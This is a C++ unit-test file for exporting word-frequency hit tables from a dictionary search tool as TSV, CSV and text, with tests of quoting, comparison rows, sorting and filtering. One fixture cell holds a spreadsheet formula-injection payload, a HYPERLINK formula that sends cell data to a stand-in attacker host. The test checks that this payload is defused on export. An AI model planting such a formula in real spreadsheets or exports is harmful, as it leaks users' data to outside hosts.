// Tests of the hit tables: the TSV, CSV and text writing on literal rows, the side-by-side rows,
// and the records of real runs against their listing and against one run per dictionary.

#include "search/table_text.h"

#include <algorithm>
#include <map>
#include <random>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "search/word_order.h"
#include "tests/support/recording_control.h"
#include "tests/support/recording_load_view.h"
#include "tests/support/temp_folder.h"
#include "wordstore/encoding.h"
#include "wordstore/word_store.h"

namespace {

using ::testing::ElementsAre;

TEST(HitTableText, WritesEachFormatWithItsHeaderSeparatorsAndQuoting)
{
    const std::vector<THitRecord> hits = {
        {"дом", 327.58, 32758, 1},
        {"а,б", 0.5, 5, 0},
        {"\"кв\"", 12345678.0, 7, 1},
        {"с\nтрока", 0.0, 0, 0},
        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"клик\")", 1.0, 1, 2},
        {"+7\tр\\б", -0.5, -5, 0},  // a negative count stays a number
    };
    // Names come spelled: "\\" is one backslash.
    const std::vector<std::string> names = {"Первый", "Второй, с запятой", "@я\\\\x"};
    const struct
    {
        TTableFormat Format;
        const char* LineBreak;
        const char* Table;
    } cases[] = {
        {TTableFormat::Tsv, "\n",
         "word\tipm\tcount\tdictionary\n"
         "дом\t327,58000\t32758\tВторой, с запятой\n"
         "а,б\t0,50000\t5\tПервый\n"
         "\"кв\"\t1,234568E7\t7\tВторой, с запятой\n"
         "с\\x0Aтрока\t0,00000\t0\tПервый\n"
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"клик\")\t1,00000\t1\t'@я\\\\x\n"
         "'+7\\x09р\\\\б\t-0,50000\t-5\tПервый"},
        {TTableFormat::Csv, "\r\n",
         "word,ipm,count,dictionary\r\n"
         "дом,327.58000,32758,\"Второй, с запятой\"\r\n"
         "\"а,б\",0.50000,5,Первый\r\n"
         "\"\"\"кв\"\"\",1.234568E7,7,\"Второй, с запятой\"\r\n"
         "\"с\nтрока\",0.00000,0,Первый\r\n"
         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"клик\"\")\",1.00000,1,'@я\\\\x\r\n"
         "\"'+7\tр\\б\",-0.50000,-5,Первый"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.Table);
        EXPECT_EQ(HitTableText(hits, names, c.Format, c.LineBreak), c.Table);
    }
}

TEST(HitTableText, NoHitsGiveTheHeaderAlone)
{
    EXPECT_EQ(HitTableText({}, {}, TTableFormat::Csv, "\n"), "word,ipm,count,dictionary");
}

TEST(CompareTableText, WritesEachFormatWithDashesOrEmptyFieldsWhereAWordIsAbsent)
{
    const std::vector<TCompareRow> rows = {
        {"дом", {327.58, 241.48}},
        {"ёж", {std::nullopt, 2.0}},
        {"\"а\"", {1.0, std::nullopt}},
        {"-\tа", {std::nullopt, 3.0}},
    };
    const std::vector<std::string> names = {"A", "=Б,В"};
    const struct
    {
        TTableFormat Format;
        const char* Table;
    } cases[] = {
        {TTableFormat::Text,
         "дом = 327,58000 | 241,48000\nёж = - | 2,00000\n\"а\" = 1,00000 | -\n-\tа = - | 3,00000"},
        {TTableFormat::Tsv,
         "word\tA\t'=Б,В\nдом\t327,58000\t241,48000\nёж\t\t2,00000\n\"а\"\t1,00000\t\n"
         "'-\\x09а\t\t3,00000"},
        {TTableFormat::Csv,
         "word,A,\"'=Б,В\"\nдом,327.58000,241.48000\nёж,,2.00000\n\"\"\"а\"\"\",1.00000,\n"
         "\"'-\tа\",,3.00000"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.Table);
        EXPECT_EQ(CompareTableText(rows, names, c.Format, "\n"), c.Table);
    }
}

std::vector<std::string> Words(const std::vector<TCompareRow>& rows)
{
    std::vector<std::string> words;
    for (const TCompareRow& row : rows) {
        words.push_back(ToUtf8(row.Word));
    }
    return words;
}

TEST(CompareRows, OrdersByLargestIpmOrAlphabeticallyAndKeepsThoseReachingTheMinimum)
{
    const std::vector<THitRecord> hits = {
        {ToCp1251("ёж"), 5.0, 5, 2},   {ToCp1251("ель"), 1.0, 1, 0}, {ToCp1251("жук"), 9.0, 9, 0},
        {ToCp1251("ёж"), 1.0, 1, 0},   {ToCp1251("ель"), 5.0, 5, 2}, {ToCp1251("ёж"), 3.0, 3, 2},
        {ToCp1251("кот"), 99.0, 9, 1}, {ToCp1251("ерш"), 0.5, 1, 0},
    };
    const std::vector<std::size_t> columns = {0, 2};  // row 1 is not searched
    {
        const std::vector<TCompareRow> rows = CompareRows(hits, columns, 0.0, false);
        // Equal largest ipms go alphabetically, ё after е.
        EXPECT_THAT(Words(rows), ElementsAre("жук", "ель", "ёж", "ерш"));
        // ёж twice in row 2: the larger ipm.
        EXPECT_EQ(rows[2].Ipms, (std::vector<std::optional<double>>{1.0, 5.0}));
        EXPECT_EQ(rows[0].Ipms, (std::vector<std::optional<double>>{9.0, std::nullopt}));
    }
    EXPECT_THAT(Words(CompareRows(hits, columns, 0.0, true)),
                ElementsAre("ель", "ерш", "ёж", "жук"));
    // The minimum applies to the largest ipm: ель (1 and 5) stays at 5, ерш goes.
    EXPECT_THAT(Words(CompareRows(hits, columns, 5.0, true)), ElementsAre("ель", "ёж", "жук"));
    EXPECT_THAT(Words(CompareRows(hits, columns, 9.5, false)), ElementsAre());
}

TEST(CompareRows, WhatTheTickThrowsEndsTheWork)
{
    // Hits enough for the tick, which stands for a front end's time limit, to be called.
    const std::vector<THitRecord> hits(100000, {"кот", 1.0, 1, 0});
    const std::vector<std::size_t> columns = {0};
    EXPECT_THROW(CompareRows(hits, columns, 0.0, false, [] { throw ESearchTimeLimit("limit"); }),
                 ESearchTimeLimit);
}

// The listing and records of test over the rows ticked, with the ipm shown.
TRunListing Listed(const TWordTest& test, std::vector<bool> ticked, bool alpha = false,
                   const std::string& minIpm = "0")
{
    TRecordingControl control;
    control.Given.Alphabetical = alpha;
    control.Given.ShowIpm = true;
    control.Given.MinIpmText = minIpm;
    control.Ticked = std::move(ticked);
    return ListRun(test, control, true);
}

class HitRecords : public ::testing::Test
{
protected:
    void SetUp() override
    {
        ClearWordStore();
        std::mt19937 random(12);
        // Few letters make many words shared by the dictionaries, and repeats within one.
        const std::string letters = ToCp1251("аеёко");
        for (const char* name : {"a", "b", "c"}) {
            std::vector<std::string> words;
            std::vector<std::int32_t> counts;
            for (int i = 0; i < 400; ++i) {
                std::string word;
                for (std::size_t k = 1 + random() % 4; k > 0; --k) {
                    word.push_back(letters[random() % letters.size()]);
                }
                words.push_back(ToUtf8(word));
                counts.push_back(static_cast<std::int32_t>(random() % 50));
            }
            m_folder.WritePair(name, words, counts);
        }
        TRecordingLoadView load;
        ScanDictionaryFolder(m_folder.Path(), load);
        ASSERT_EQ(load.Rows.size(), 3u);
    }
    void TearDown() override { ClearWordStore(); }

    TTempFolder m_folder;
};

TEST_F(HitRecords, TsvRowsAreTheListingsLinesInItsOrder)
{
    std::mt19937 random(7);
    const std::string letters = ToCp1251("аеёко");
    const std::vector<std::string> names = {"a", "b", "c"};
    for (int round = 0; round < 60; ++round) {
        const bool alpha = random() % 2 == 0;
        const std::string minIpm = std::to_string(random() % 3) + ",5";
        const std::vector<bool> ticked = {random() % 2 == 0, random() % 2 == 0, true};
        const std::string ending(1, letters[random() % letters.size()]);
        SCOPED_TRACE(::testing::Message() << "round " << round << " alpha " << alpha);
        const TRunListing view =
            Listed(round % 2 == 0 ? EndingTest(ending) : *PatternTest("/" + ending + "/"), ticked,
                   alpha, minIpm);
        // Each record's ipm is its count over its dictionary's total.
        for (const THitRecord& hit : view.Records) {
            EXPECT_EQ(hit.Ipm, hit.Count / DictTotals[hit.Row]);
            EXPECT_TRUE(ticked[hit.Row]);
        }
        // "word<TAB>ipm<TAB>..." against the listing's "word = ipm".
        std::string expected = "word\tipm\tcount\tdictionary";
        std::string table = HitTableText(view.Records, names, TTableFormat::Tsv, "\r\n");
        std::string fromTable;
        for (std::size_t start = table.find("\r\n"); start != std::string::npos;) {
            const std::size_t end = table.find("\r\n", start + 2);
            const std::string line = table.substr(start + 2, end - start - 2);
            const std::size_t tab = line.find('\t');
            const std::size_t tab2 = line.find('\t', tab + 1);
            fromTable += (fromTable.empty() ? "" : "\r\n") + line.substr(0, tab) + " = " +
                         line.substr(tab + 1, tab2 - tab - 1);
            start = end;
        }
        EXPECT_EQ(table.substr(0, expected.size()), expected);
        EXPECT_EQ(ToUtf8(fromTable), view.Text);
    }
}

TEST_F(HitRecords, CompareRowsEqualAModelOfOneSearchPerDictionary)
{
    std::mt19937 random(3);
    const std::string letters = ToCp1251("аеёко");
    for (int round = 0; round < 30; ++round) {
        const std::string ending(1, letters[random() % letters.size()]);
        const bool alpha = random() % 2 == 0;
        const double minIpm = static_cast<double>(random() % 4);
        SCOPED_TRACE(::testing::Message() << "round " << round);
        // The model: per dictionary, the largest ipm of each word.
        std::map<std::string, std::vector<std::optional<double>>> model;
        for (std::size_t row = 0; row < 3; ++row) {
            const TRunListing one = Listed(EndingTest(ending), {row == 0, row == 1, row == 2});
            for (const THitRecord& hit : one.Records) {
                std::optional<double>& ipm =
                    model.try_emplace(hit.Word, std::vector<std::optional<double>>(3))
                        .first->second[row];
                ipm = std::max(ipm.value_or(hit.Ipm), hit.Ipm);
            }
        }
        std::vector<TCompareRow> expected;
        for (const auto& [word, ipms] : model) {
            if (**std::max_element(ipms.begin(), ipms.end()) >= minIpm) {
                expected.push_back({word, ipms});
            }
        }
        const auto largest = [](const TCompareRow& row) {
            return **std::max_element(row.Ipms.begin(), row.Ipms.end());
        };
        std::sort(expected.begin(), expected.end(), [&](const auto& a, const auto& b) {
            if (!alpha && largest(a) != largest(b)) {
                return largest(a) > largest(b);
            }
            return ListedBefore(a.Word, b.Word);
        });

        const TRunListing all = Listed(EndingTest(ending), {true, true, true});
        const std::vector<std::size_t> columns = {0, 1, 2};
        const std::vector<TCompareRow> rows = CompareRows(all.Records, columns, minIpm, alpha);
        ASSERT_EQ(rows.size(), expected.size());
        for (std::size_t i = 0; i < rows.size(); ++i) {
            EXPECT_EQ(rows[i].Word, expected[i].Word);
            EXPECT_EQ(rows[i].Ipms, expected[i].Ipms);
        }
    }
}

}  // namespace
